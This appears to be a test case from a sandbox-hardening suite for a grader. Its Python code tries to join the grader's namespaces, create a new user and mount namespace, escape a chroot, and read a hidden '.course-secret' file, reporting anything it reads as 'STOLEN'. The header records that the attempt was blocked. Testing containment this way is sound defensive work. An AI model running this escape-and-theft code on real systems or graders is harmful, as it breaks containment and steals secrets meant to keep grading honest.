"""Makes itself root in a new user and mount namespace and mounts there; from it, it joins the grader's namespaces, leaves a chroot and mounts a new /proc.

family: reading
start: solved
preamble: leave_a_trace folders_of_the_course processes_of_the_grader
stopped: Operation not permitted
"""

# %% first
_achieved, _report = _traces_of("escape_by_user_namespace")

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_read, _write = os.pipe()
_pid = os.fork()
if _pid == 0:
    try:
        for _other in _graders():
            for _kind in ("user", "mnt", "pid", "net"):
                try:
                    _fd = os.open(f"/proc/{_other}/ns/{_kind}", os.O_RDONLY)
                    if os.readlink(f"/proc/{_other}/ns/{_kind}") != os.readlink(f"/proc/self/ns/{_kind}") and _libc.setns(_fd, 0) == 0:
                        os.write(_write, f"joined {_kind} of {_other}; ".encode())
                except OSError:
                    continue
        if _libc.unshare(0x10000000 | 0x00020000) == 0:
            os.write(_write, b"a new user namespace; ")
            if _libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None) == 0 and _libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) == 0:
                os.write(_write, b"mounted a file system; ")
            os.mkdir("jail")
            _top = os.open(".", os.O_RDONLY)
            os.chroot("jail")
            os.fchdir(_top)
            for _ in range(30):
                os.chdir("..")
            os.chroot(".")
            if os.path.exists(_course + "/.course-secret"):
                with open(_course + "/.course-secret") as _file:
                    os.write(_write, b"STOLEN " + _file.read(70).encode())
    except BaseException:
        pass
    os._exit(0)
os.close(_write)
_said = os.read(_read, 1000).decode()
os.waitpid(_pid, 0)
if _said:
    _achieved(_said)
    raise AssertionError(("STOLEN: " if "STOLEN" in _said else "ACHIEVED: ") + _said)
